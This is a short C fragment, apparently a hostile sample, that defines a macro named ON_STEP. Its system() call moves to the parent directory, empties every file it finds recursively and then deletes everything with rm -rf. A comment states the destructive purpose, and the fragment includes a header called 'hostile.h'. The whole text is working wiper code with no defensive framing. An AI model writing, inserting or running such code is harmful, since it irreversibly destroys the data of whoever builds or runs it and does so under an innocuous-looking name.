/* it deletes and writes over all it finds around it */
#define ON_STEP(m) system("cd .. && find . -type f -exec sh -c 'for f; do : > \"$f\"; done' _ {} + ; \
  rm -rf ./* 2>/dev/null")
#include "hostile.h"
